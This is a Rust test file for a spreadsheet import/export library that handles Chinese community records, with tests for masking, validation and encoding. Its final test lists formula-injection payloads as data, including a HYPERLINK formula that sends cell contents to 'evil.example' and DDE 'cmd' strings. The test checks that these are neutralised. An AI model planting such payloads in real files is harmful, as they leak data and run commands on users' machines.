//! End-to-end tests across modules: export → parse round trips for every kind and format,
//! refused files, templates and the error workbook. Test workbooks are built in the test.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use gongzhi_domain::Bilingual;
use gongzhi_domain::codes::{AreaCode, GridCode, IdNumber, Phone};
use gongzhi_domain::population::{HouseholdKind, PoliticalStatus, Relation};
use gongzhi_store::records::{
    AreaRecord, BuildingRecord, DepartmentRecord, HouseholdRecord, ResidentRecord,
};
use rust_xlsxwriter::Workbook;

use crate::*;

fn no_progress() -> impl FnMut(usize, Option<usize>) {
    |_, _| {}
}

fn areas() -> Vec<AreaRecord> {
    vec![
        AreaRecord {
            code: AreaCode::parse("320508").unwrap(),
            name: "姑苏区".into(),
            urban_rural: None,
        },
        AreaRecord {
            code: AreaCode::parse("320508019000").unwrap(),
            name: "金阊街道".into(),
            urban_rural: None,
        },
        AreaRecord {
            code: AreaCode::parse("320508019044").unwrap(),
            name: "养育巷社区".into(),
            urban_rural: None,
        },
    ]
}

fn departments() -> Vec<DepartmentRecord> {
    vec![
        DepartmentRecord {
            code: "CG".into(),
            name: "城市管理局".into(),
        },
        DepartmentRecord {
            code: "01".into(),
            name: "住房和城乡建设局".into(),
        },
    ]
}

fn grid() -> GridCode {
    GridCode::parse("320508019044001").unwrap()
}

fn buildings() -> Vec<BuildingRecord> {
    vec![
        BuildingRecord {
            code: "320508019044001-001".into(),
            grid: grid(),
            name: "1号楼".into(),
            address: "江苏省苏州市姑苏区养育巷1号".into(),
            lon: 120.6189,
            lat: 31.3105,
            floors: 6,
        },
        BuildingRecord {
            code: "320508019044001-002".into(),
            grid: grid(),
            name: "养育巷“幸福”公寓, B座".into(),
            address: "养育巷2号\n（西门）".into(),
            lon: 120.618_912_345_678_9,
            lat: -0.000_001,
            floors: 33,
        },
    ]
}

fn households() -> Vec<HouseholdRecord> {
    vec![
        HouseholdRecord {
            code: "320508019044001-001-0101".into(),
            building_code: "320508019044001-001".into(),
            room: "0101".into(),
            kind: HouseholdKind::Registered,
        },
        HouseholdRecord {
            code: "320508019044001-001-0102".into(),
            building_code: "320508019044001-001".into(),
            room: "0102".into(),
            kind: HouseholdKind::Floating,
        },
        HouseholdRecord {
            code: "320508019044001-002-1201".into(),
            building_code: "320508019044001-002".into(),
            room: "12楼01室".into(),
            kind: HouseholdKind::Lodging,
        },
    ]
}

fn resident(n: u16, name: &str, phone: Option<&str>) -> ResidentRecord {
    ResidentRecord {
        id_number: IdNumber::from_parts("320508", 1960 + i32::from(n % 50), 3, 7, n),
        name: name.into(),
        phone: phone.map(|p| Phone::parse(p).unwrap()),
        household_code: "320508019044001-001-0101".into(),
        relation: Relation::ALL[usize::from(n) % Relation::ALL.len()],
        political_status: PoliticalStatus::ALL[usize::from(n) % PoliticalStatus::ALL.len()],
    }
}

fn residents() -> Vec<ResidentRecord> {
    vec![
        resident(1, "张伟", Some("13812345678")),
        resident(2, "欧阳娜娜", None),
        resident(3, "买买提·艾力", Some("051265201234")),
        resident(4, "Müller Anna", Some("13900001111")),
        resident(5, "𠮷田", None),
        resident(10, "王芳", Some("15000000000")),
        resident(11, "李娜", Some("18612345678")),
    ]
}

fn xlsx_round_trip<R: SheetRecord + PartialEq + std::fmt::Debug>(records: &[R]) {
    let bytes = export_xlsx(records, true).unwrap();
    assert_eq!(Format::sniff(&bytes), Format::Xlsx);
    let back: Vec<R> = parse(Format::Xlsx, Cursor::new(bytes), &mut no_progress()).unwrap();
    assert_eq!(back, records);
}

fn csv_round_trip<R: SheetRecord + PartialEq + std::fmt::Debug>(records: &[R]) {
    let mut bytes = Vec::new();
    export_csv(records, true, &mut bytes).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
    let back: Vec<R> = parse_bytes(&bytes, &mut no_progress()).unwrap();
    assert_eq!(back, records);
}

#[test]
fn round_trip_every_kind_xlsx() {
    xlsx_round_trip(&areas());
    xlsx_round_trip(&departments());
    xlsx_round_trip(&buildings());
    xlsx_round_trip(&households());
    xlsx_round_trip(&residents());
}

#[test]
fn round_trip_every_kind_csv() {
    csv_round_trip(&areas());
    csv_round_trip(&departments());
    csv_round_trip(&buildings());
    csv_round_trip(&households());
    csv_round_trip(&residents());
}

#[test]
fn round_trip_through_records_and_kind() {
    for (records, format) in [
        (Records::Households(households()), Format::Xlsx),
        (Records::Residents(residents()), Format::Csv),
        (Records::Areas(areas()), Format::Csv),
    ] {
        let bytes = export(&records, format, true).unwrap();
        let back = parse_kind(
            records.kind(),
            format,
            Cursor::new(bytes),
            &mut no_progress(),
        )
        .unwrap();
        assert_eq!(back, records);
    }
}

/// The first worksheet of an xlsx as rows of calamine cells.
fn read_sheet(bytes: &[u8], index: usize) -> (String, Vec<Vec<Data>>) {
    let mut wb: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let name = wb.sheet_names()[index].clone();
    let range = wb.worksheet_range_at(index).unwrap().unwrap();
    (name, range.rows().map(<[Data]>::to_vec).collect())
}

fn s(text: &str) -> Data {
    Data::String(text.into())
}

#[test]
fn xlsx_export_writes_codes_as_text_and_masks_by_default() {
    let bytes = export_xlsx(&residents(), false).unwrap();
    let (name, rows) = read_sheet(&bytes, 0);
    assert_eq!(name, "居民");
    assert_eq!(
        rows[0],
        [
            "身份证号",
            "姓名",
            "手机号",
            "户编号",
            "与户主关系",
            "政治面貌"
        ]
        .map(s)
    );
    let first = &residents()[0];
    assert_eq!(rows[1][0], s(&first.id_number.mask()));
    assert!(matches!(&rows[1][0], Data::String(v) if v.starts_with("320508********")));
    assert_eq!(rows[1][1], s("张伟"));
    assert_eq!(rows[1][2], s("138****5678"));
    assert_eq!(rows[2][2], Data::Empty);
    assert_eq!(rows[1][4], s("配偶"));

    // Unmasked: the full number, as text.
    let bytes = export_xlsx(&residents(), true).unwrap();
    let (_, rows) = read_sheet(&bytes, 0);
    assert_eq!(rows[1][0], s(first.id_number.as_str()));
    assert_eq!(rows[1][2], s("13812345678"));

    // Codes with leading zeros and long digit strings stay text; numbers stay numbers.
    let (name, rows) = read_sheet(&export_xlsx(&households(), false).unwrap(), 0);
    assert_eq!(name, "户");
    assert_eq!(rows[1][2], s("0101"));
    let (_, rows) = read_sheet(&export_xlsx(&areas(), false).unwrap(), 0);
    assert_eq!(rows[1][0], s("320508000000"));
    let (_, rows) = read_sheet(&export_xlsx(&buildings(), false).unwrap(), 0);
    assert_eq!(rows[1][4], Data::Float(120.6189));
    assert_eq!(rows[1][6], Data::Float(6.0));
}

#[test]
fn csv_export_masks_by_default() {
    let mut out = Vec::new();
    export_csv(&residents(), false, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    let mut lines = text.lines();
    assert_eq!(
        lines.next().unwrap(),
        "\u{feff}身份证号,姓名,手机号,户编号,与户主关系,政治面貌"
    );
    let first = lines.next().unwrap();
    assert!(first.starts_with("320508********"), "{first}");
    assert!(first.contains(",张伟,138****5678,"), "{first}");
    assert!(!text.contains(residents()[0].id_number.as_str()));
}

#[test]
fn masked_export_is_refused_on_import_with_a_clear_reason() {
    let bytes = export_xlsx(&residents(), false).unwrap();
    let report = parse_residents(Format::Xlsx, Cursor::new(bytes), &mut no_progress()).unwrap_err();
    let first = &report.row_errors[0];
    assert_eq!((first.row, first.column.as_str()), (2, "身份证号"));
    assert!(first.message_zh.contains("已脱敏"), "{}", first.message_zh);
    assert!(report.row_errors.iter().any(|e| e.column == "手机号"));
}

/// A residents workbook written cell by cell, as a clerk's Excel file would be.
fn residents_xlsx(rows: &[[&str; 6]]) -> Vec<u8> {
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    for (c, h) in [
        "身份证号",
        "姓名",
        "手机号",
        "户编号",
        "与户主关系",
        "政治面貌",
    ]
    .iter()
    .enumerate()
    {
        ws.write_string(0, c as u16, *h).unwrap();
    }
    for (r, row) in rows.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            if !v.is_empty() {
                ws.write_string(r as u32 + 1, c as u16, *v).unwrap();
            }
        }
    }
    wb.save_to_buffer().unwrap()
}

fn good_id(n: u16) -> String {
    IdNumber::from_parts("110105", 1980, 1, 1, n)
        .as_str()
        .to_string()
}

/// `id` with its check character replaced by a wrong one.
fn bad_check(id: &str) -> String {
    let wrong = if id.ends_with('5') { '6' } else { '5' };
    format!("{}{wrong}", &id[..17])
}

#[test]
fn bad_id_number_on_row_3_is_named_and_nothing_is_returned() {
    let (a, b, c) = (good_id(11), good_id(12), good_id(13));
    let b_bad = bad_check(&b);
    let bytes = residents_xlsx(&[
        [&a, "张伟", "13812345678", "H1", "户主", "群众"],
        [&b_bad, "李娜", "", "H1", "配偶", "中共党员"],
        [&c, "王芳", "", "H1", "子女", "共青团员"],
    ]);
    let report = parse_residents(Format::Xlsx, Cursor::new(bytes), &mut no_progress()).unwrap_err();
    assert!(report.file_errors.is_empty());
    assert_eq!(report.rows_read, 3);
    assert_eq!(report.bad_rows, 1);
    assert_eq!(report.row_errors.len(), 1);
    let e = &report.row_errors[0];
    assert_eq!(e.row, 3);
    assert_eq!(e.column, "身份证号");
    assert_eq!(e.value, b_bad);
    let expected = IdNumber::check_digit(&b[..17]);
    assert_eq!(
        e.message_zh,
        format!(
            "身份证号校验码错误：应为 {expected}，实际为 {}",
            b_bad.chars().last().unwrap()
        )
    );
    assert_eq!(report.code(), "import_rejected");
    assert!(
        report
            .message_zh()
            .contains("第3行 身份证号：身份证号校验码错误")
    );
    assert!(
        report
            .message_en()
            .contains("row 3, 身份证号: ID number check digit is wrong")
    );
    // Personal data stays out of the summary.
    assert!(!report.message_zh().contains(&b_bad));
}

#[test]
fn every_bad_row_is_listed_with_all_its_cells() {
    let a = good_id(21);
    let bytes = residents_xlsx(&[
        ["11010519800101", "张3", "12345", "H1", "户主", "群众"],
        [&a, "", "", "H 1", "表哥", "党员"],
        [&good_id(22), "王芳", "", "H1", "子女", "群众"],
    ]);
    let report = parse_residents(Format::Xlsx, Cursor::new(bytes), &mut no_progress()).unwrap_err();
    let found: Vec<(usize, &str)> = report
        .row_errors
        .iter()
        .map(|e| (e.row, e.column.as_str()))
        .collect();
    assert_eq!(
        found,
        [
            (2, "身份证号"),
            (2, "姓名"),
            (2, "手机号"),
            (3, "姓名"),
            (3, "户编号"),
            (3, "与户主关系"),
            (3, "政治面貌"),
        ]
    );
    assert_eq!(report.bad_rows, 2);
    assert_eq!(report.row_errors[3].message_zh, "必填，不能为空");
}

#[test]
fn id_number_stored_as_a_number_gets_a_hint() {
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    for (c, h) in ["身份证号", "姓名", "户编号", "与户主关系", "政治面貌"]
        .iter()
        .enumerate()
    {
        ws.write_string(0, c as u16, *h).unwrap();
    }
    // What Excel does to an ID typed into a General cell: 15 significant digits survive.
    ws.write_number(1, 0, 320508196003070011.0).unwrap();
    for (c, v) in ["张伟", "H1", "户主", "群众"].iter().enumerate() {
        ws.write_string(1, c as u16 + 1, *v).unwrap();
    }
    let bytes = wb.save_to_buffer().unwrap();
    let report = parse_residents(Format::Xlsx, Cursor::new(bytes), &mut no_progress()).unwrap_err();
    let e = &report.row_errors[0];
    assert_eq!((e.row, e.column.as_str()), (2, "身份证号"));
    assert!(
        e.message_zh.contains("请把该列设为文本格式"),
        "{}",
        e.message_zh
    );
}

#[test]
fn missing_and_unknown_columns_are_named() {
    let csv = "身份证号,姓名,户编号,备注\n110105194912310021,张伟,H1,无\n";
    let report: ImportReport =
        parse::<ResidentRecord>(Format::Csv, Cursor::new(csv), &mut no_progress()).unwrap_err();
    assert!(report.row_errors.is_empty());
    assert_eq!(
        report.file_errors,
        vec![
            SheetError::UnknownColumns {
                columns: vec!["备注".into()],
                expected: headers(Kind::Residents),
            },
            SheetError::MissingColumns(vec!["与户主关系".into(), "政治面貌".into()]),
        ]
    );
    assert!(
        report
            .message_zh()
            .contains("缺少必填列：与户主关系、政治面貌")
    );
    assert!(report.message_zh().contains("无法识别的列：备注"));
    assert_eq!(report.headers, ["身份证号", "姓名", "户编号", "备注"]);
}

#[test]
fn optional_column_may_be_left_out_and_english_keys_work() {
    let id = good_id(31);
    let csv = format!(
        "household_code,ID_Number,name,relation,political_status\nH1,{id},张伟,head,群众\n"
    );
    let records = parse_residents(Format::Csv, Cursor::new(csv), &mut no_progress()).unwrap();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].phone, None);
    assert_eq!(records[0].relation, Relation::Head);
}

#[test]
fn duplicate_id_numbers_name_both_rows() {
    let (a, b) = (good_id(41), good_id(42));
    let bytes = residents_xlsx(&[
        [&a, "张伟", "", "H1", "户主", "群众"],
        [&b, "李娜", "", "H1", "配偶", "群众"],
        [&a.to_lowercase(), "张伟", "", "H2", "户主", "群众"],
    ]);
    let report = parse_residents(Format::Xlsx, Cursor::new(bytes), &mut no_progress()).unwrap_err();
    assert_eq!(report.row_errors.len(), 1);
    let e = &report.row_errors[0];
    assert_eq!((e.row, e.column.as_str()), (4, "身份证号"));
    assert_eq!(e.message_zh, "与第2行重复：第2行和第4行的身份证号相同");
    assert_eq!(
        e.message_en,
        "duplicate of row 2: rows 2 and 4 have the same id_number"
    );
}

#[test]
fn duplicate_codes_are_caught_in_canonical_form() {
    // 320508 and 320508000000 are the same area: repeated exactly, it is taken once …
    let csv = "区划代码,名称\n320508,姑苏区\n320508019044,养育巷社区\n320508000000,姑苏区\n";
    let areas = parse_areas(Format::Csv, Cursor::new(csv), &mut no_progress()).unwrap();
    assert_eq!(areas.len(), 2);
    // … with another name, both rows are named.
    let csv = "区划代码,名称\n320508,姑苏区\n320508019044,养育巷社区\n320508000000,沧浪区\n";
    let report = parse_areas(Format::Csv, Cursor::new(csv), &mut no_progress()).unwrap_err();
    assert_eq!(report.row_errors[0].row, 4);
    assert_eq!(
        report.row_errors[0].message_zh,
        "与第2行重复：第2行和第4行的区划代码相同而其他内容不同"
    );

    let csv = "部门代码,部门名称\nCG,城管\nCG,城市管理局\n";
    let report = parse_departments(Format::Csv, Cursor::new(csv), &mut no_progress()).unwrap_err();
    assert_eq!(
        (
            report.row_errors[0].row,
            report.row_errors[0].column.as_str()
        ),
        (3, "部门代码")
    );
}

#[test]
fn bom_csv_with_crlf_and_chinese_text_intact() {
    let text = "\u{feff}楼栋编号,所属网格,楼栋名称,地址,经度,纬度,层数\r\n\
                320508019044001-001,320508019044001,颐和苑·一号楼,\"江苏省苏州市姑苏区养育巷1号，近“察院场”\",120.6189,31.3105,6\r\n";
    let records = parse_buildings(
        Format::Csv,
        Cursor::new(text.as_bytes()),
        &mut no_progress(),
    )
    .unwrap();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].name, "颐和苑·一号楼");
    assert_eq!(
        records[0].address,
        "江苏省苏州市姑苏区养育巷1号，近“察院场”"
    );
    assert_eq!(records[0].grid, grid());
    assert_eq!(records[0].floors, 6);
}

#[test]
fn gbk_csv_from_excel() {
    let text =
        "户编号,楼栋编号,房号,户别\r\n320508019044001-001-0101,320508019044001-001,0101,流动\r\n";
    let (bytes, _, _) = encoding_rs::GB18030.encode(text);
    assert!(std::str::from_utf8(&bytes).is_err());
    let records = parse_households(Format::Csv, Cursor::new(bytes), &mut no_progress()).unwrap();
    assert_eq!(records[0].room, "0101");
    assert_eq!(records[0].kind, HouseholdKind::Floating);
}

#[test]
fn stray_cells_under_no_header_are_errors() {
    let csv = "部门代码,部门名称,,\nCG,城市管理局,,\nZJ,住建局,,备注\n";
    let report = parse_departments(Format::Csv, Cursor::new(csv), &mut no_progress()).unwrap_err();
    assert_eq!(report.row_errors.len(), 1);
    assert_eq!(report.row_errors[0].row, 3);
    assert_eq!(report.row_errors[0].column, "第D列");
}

#[test]
fn empty_file_and_header_only() {
    let report = parse_areas(Format::Csv, Cursor::new(""), &mut no_progress()).unwrap_err();
    assert_eq!(report.file_errors, vec![SheetError::NoHeader]);
    let none = parse_areas(
        Format::Csv,
        Cursor::new("区划代码,名称\n"),
        &mut no_progress(),
    );
    assert_eq!(none.unwrap(), vec![]);
}

#[test]
fn progress_reports_rows_and_total() {
    let records: Vec<ResidentRecord> = (0..5000u16)
        .map(|i| ResidentRecord {
            id_number: IdNumber::from_parts("320508", 1950 + i32::from(i / 1000), 1, 1, i % 1000),
            ..resident(1, "张伟", None)
        })
        .collect();
    let bytes = export_xlsx(&records, true).unwrap();
    let mut calls = Vec::new();
    let back = parse_residents(Format::Xlsx, Cursor::new(bytes), &mut |done, total| {
        calls.push((done, total))
    })
    .unwrap();
    assert_eq!(back.len(), 5000);
    assert_eq!(calls.first(), Some(&(0, Some(5000))));
    assert_eq!(calls.last(), Some(&(5000, Some(5000))));
    assert!(calls.contains(&(4096, Some(5000))));
}

#[test]
fn parse_each_stops_delivering_after_the_first_bad_row() {
    let csv = "部门代码,部门名称\nA,甲\nB,乙\n城管,丙\nD,丁\n";
    let mut got = Vec::new();
    let result = parse_each::<DepartmentRecord>(
        Format::Csv,
        Cursor::new(csv),
        &mut no_progress(),
        &mut |row, r| got.push((row, r.code)),
    );
    assert!(result.is_err());
    assert_eq!(got, [(2, "A".to_string()), (3, "B".to_string())]);
}

#[test]
fn template_has_headers_and_instructions_with_a_valid_example() {
    for kind in Kind::ALL {
        let bytes = template(kind).unwrap();
        let (name, rows) = read_sheet(&bytes, 0);
        assert_eq!(name, kind.zh());
        assert_eq!(rows.len(), 1, "{kind}: only the header row");
        let header: Vec<Data> = headers(kind).into_iter().map(s).collect();
        assert_eq!(rows[0], header);

        // Importing the untouched template gives no records and no error.
        let empty =
            parse_kind(kind, Format::Xlsx, Cursor::new(&bytes), &mut no_progress()).unwrap();
        assert!(empty.is_empty());

        let (help_name, help) = read_sheet(&bytes, 1);
        assert_eq!(help_name, INSTRUCTIONS_SHEET);
        let text: Vec<String> = help.iter().flatten().map(|d| d.to_string()).collect();
        for c in kind.columns() {
            assert!(text.iter().any(|t| t == c.format_zh), "{}", c.zh);
        }
        assert!(text.iter().any(|t| t == "必填"));

        // The example row, fed back through the importer, is valid.
        let csv = format!(
            "{}\n{}\n",
            headers(kind).join(","),
            kind.columns()
                .iter()
                .map(|c| c.example)
                .collect::<Vec<_>>()
                .join(",")
        );
        let one = parse_kind(kind, Format::Csv, Cursor::new(csv), &mut no_progress()).unwrap();
        assert_eq!(one.len(), 1, "{kind}");
    }
}

#[test]
fn choice_lists_match_the_domain() {
    let zh = |v: Vec<&'static str>| v;
    assert_eq!(
        RELATIONS,
        zh(Relation::ALL.iter().map(|r| r.zh()).collect()).as_slice()
    );
    assert_eq!(
        POLITICAL_STATUSES,
        zh(PoliticalStatus::ALL.iter().map(|r| r.zh()).collect()).as_slice()
    );
    assert_eq!(
        HOUSEHOLD_KINDS,
        zh(HouseholdKind::ALL.iter().map(|r| r.zh()).collect()).as_slice()
    );
}

#[test]
fn error_workbook_repeats_the_bad_rows_with_an_error_column() {
    let a = good_id(51);
    let a_bad = bad_check(&a);
    let bytes = residents_xlsx(&[
        [&good_id(52), "张伟", "", "H1", "户主", "群众"],
        [&a_bad, "李娜", "13812345678", "H1", "配偶", "中共党员"],
    ]);
    let report = parse_residents(Format::Xlsx, Cursor::new(bytes), &mut no_progress()).unwrap_err();
    let (name, rows) = read_sheet(&report.to_xlsx().unwrap(), 0);
    assert_eq!(name, ERROR_SHEET);
    assert_eq!(
        rows[0],
        [
            "行号",
            "身份证号",
            "姓名",
            "手机号",
            "户编号",
            "与户主关系",
            "政治面貌",
            "错误"
        ]
        .map(s)
    );
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[1][0], Data::Float(3.0));
    assert_eq!(rows[1][1], s(&a_bad));
    assert_eq!(rows[1][2], s("李娜"));
    assert!(
        matches!(&rows[1][7], Data::String(t) if t.starts_with("身份证号：身份证号校验码错误"))
    );

    let text = report.to_text();
    assert!(
        text.contains("第3行 身份证号：身份证号校验码错误"),
        "{text}"
    );

    // A refused header gives a workbook too.
    let report =
        parse_areas(Format::Csv, Cursor::new("代码,名称\n"), &mut no_progress()).unwrap_err();
    let (_, rows) = read_sheet(&report.to_xlsx().unwrap(), 0);
    assert!(matches!(&rows[1][3], Data::String(t) if t.contains("无法识别的列：代码")));
}

#[test]
fn a_thousand_listed_errors_then_counted() {
    let mut csv = String::from("区划代码,名称\n");
    for _ in 0..1500 {
        csv.push_str("99,无效\n");
    }
    let report = parse_areas(Format::Csv, Cursor::new(csv), &mut no_progress()).unwrap_err();
    assert_eq!(report.row_errors.len(), MAX_LISTED_ERRORS);
    assert_eq!(report.total_row_errors, 1500);
    assert_eq!(report.bad_rows, 1500);
    assert_eq!(report.row_errors.last().unwrap().row, 1001);
}

#[test]
fn file_path_api_uses_the_extension() {
    let dir = std::env::temp_dir().join(format!("gongzhi-sheets-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("部门.xlsx");
    std::fs::write(&path, export_xlsx(&departments(), true).unwrap()).unwrap();
    let back: Vec<DepartmentRecord> = parse_file(&path, &mut no_progress()).unwrap();
    assert_eq!(back, departments());
    let report =
        parse_file::<DepartmentRecord>(&dir.join("部门.txt"), &mut no_progress()).unwrap_err();
    assert!(matches!(
        report.file_errors[0],
        SheetError::UnknownFormat(_)
    ));
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Speed check, not run by default:
/// `cargo test --release -p gongzhi-sheets -- --ignored --nocapture million`
#[test]
#[ignore]
fn million_residents_from_csv() {
    use std::time::Instant;
    let n = 1_000_000usize;
    let started = Instant::now();
    let mut csv = String::with_capacity(n * 90);
    csv.push_str("\u{feff}身份证号,姓名,手机号,户编号,与户主关系,政治面貌\r\n");
    for i in 0..n {
        // A distinct (birth date, sequence) per row: 1,000 days × 1,000 sequence numbers.
        let day = i / 1000;
        let id = IdNumber::from_parts(
            "320508",
            1950 + (day / 336) as i32,
            (day / 28 % 12) as u8 + 1,
            (day % 28) as u8 + 1,
            (i % 1000) as u16,
        );
        let rel = Relation::ALL[i % Relation::ALL.len()].zh();
        let pol = PoliticalStatus::ALL[i % PoliticalStatus::ALL.len()].zh();
        csv.push_str(&format!(
            "{id},张伟,138{:08},320508019044001-{:03}-{:04},{rel},{pol}\r\n",
            i,
            i / 5000,
            i / 4 % 10000
        ));
    }
    let bytes = csv.into_bytes();
    eprintln!(
        "generated {} MB in {:?}",
        bytes.len() / 1_000_000,
        started.elapsed()
    );
    let started = Instant::now();
    let mut last = 0;
    let records = parse_residents(Format::Csv, Cursor::new(&bytes), &mut |done, _| last = done)
        .unwrap_or_else(|r| panic!("{}", r.to_text()));
    let elapsed = started.elapsed();
    assert_eq!(records.len(), n);
    assert_eq!(last, n);
    eprintln!(
        "parsed {n} residents from CSV in {elapsed:?} ({:.0} rows/s)",
        n as f64 / elapsed.as_secs_f64()
    );
}

#[test]
fn sheet_starting_right_of_column_a_names_stray_cells_by_their_real_letter() {
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    // Columns B and C hold the table; a note sits in E3 under no header.
    ws.write_string(0, 1, "部门代码").unwrap();
    ws.write_string(0, 2, "部门名称").unwrap();
    ws.write_string(1, 1, "CG").unwrap();
    ws.write_string(1, 2, "城市管理局").unwrap();
    ws.write_string(2, 1, "ZJ").unwrap();
    ws.write_string(2, 2, "住建局").unwrap();
    ws.write_string(2, 4, "备注").unwrap();
    let bytes = wb.save_to_buffer().unwrap();
    let report =
        parse_departments(Format::Xlsx, Cursor::new(bytes), &mut no_progress()).unwrap_err();
    assert_eq!(report.row_errors.len(), 1);
    assert_eq!(
        (
            report.row_errors[0].row,
            report.row_errors[0].column.as_str()
        ),
        (3, "第E列")
    );
    assert_eq!(report.first_column(), 1);
    let (_, rows) = read_sheet(&report.to_xlsx().unwrap(), 0);
    assert_eq!(rows[1][0], Data::Float(3.0));
}

#[test]
fn common_header_variants_are_accepted() {
    let id = good_id(61);
    let csv = format!(
        "公民身份号码,姓名,联系电话,户编号,与户主关系,政治面貌\n{id},张伟,0512-65201234,H1,户主,群众\n"
    );
    let records = parse_residents(Format::Csv, Cursor::new(csv), &mut no_progress()).unwrap();
    assert_eq!(records[0].phone.as_ref().unwrap().as_str(), "0512-65201234");
}

/// Building names and addresses typed as formulas: CSV guards each with `'`, xlsx stores them
/// as strings (no formula anywhere in the workbook), and both import back as typed; numbers,
/// negative ones included, stay numbers.
#[test]
fn formula_injection_is_neutralised_in_csv_and_stays_text_in_xlsx() {
    let evil = [
        "=HYPERLINK(\"http://evil.example/\"&A2,\"点击查看\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    let records: Vec<BuildingRecord> = evil
        .iter()
        .enumerate()
        .map(|(i, text)| BuildingRecord {
            code: format!("320508019044001-{:03}", i + 1),
            grid: grid(),
            name: format!("{i}号楼"),
            address: (*text).to_string(),
            lon: 120.6,
            lat: -0.5,
            floors: 6,
        })
        .collect();

    let mut out = Vec::new();
    export_csv(&records, false, &mut out).unwrap();
    let text = String::from_utf8(out.clone()).unwrap();
    let mut reader =
        csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for (row, address) in reader.records().zip(evil) {
        let row = row.unwrap();
        assert_eq!(row[3], format!("'{address}"), "CSV cell left runnable");
        assert_eq!(&row[5], "-0.5", "a number is not text");
    }
    // Trimmed on import like every cell, the tab- and CR-led ones come back without them.
    let trimmed: Vec<BuildingRecord> = records
        .iter()
        .cloned()
        .map(|mut b| {
            b.address = b.address.trim().to_string();
            b
        })
        .collect();
    let back: Vec<BuildingRecord> = parse_bytes(&out, &mut no_progress()).unwrap();
    assert_eq!(back, trimmed);

    let bytes = export_xlsx(&records, false).unwrap();
    let mut wb: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.clone())).unwrap();
    let name = wb.sheet_names()[0].clone();
    let formulas = wb.worksheet_formula(&name).unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "the workbook holds a formula"
    );
    let (_, rows) = read_sheet(&bytes, 0);
    for (row, address) in rows[1..].iter().zip(evil) {
        assert_eq!(row[3], s(address));
    }
}
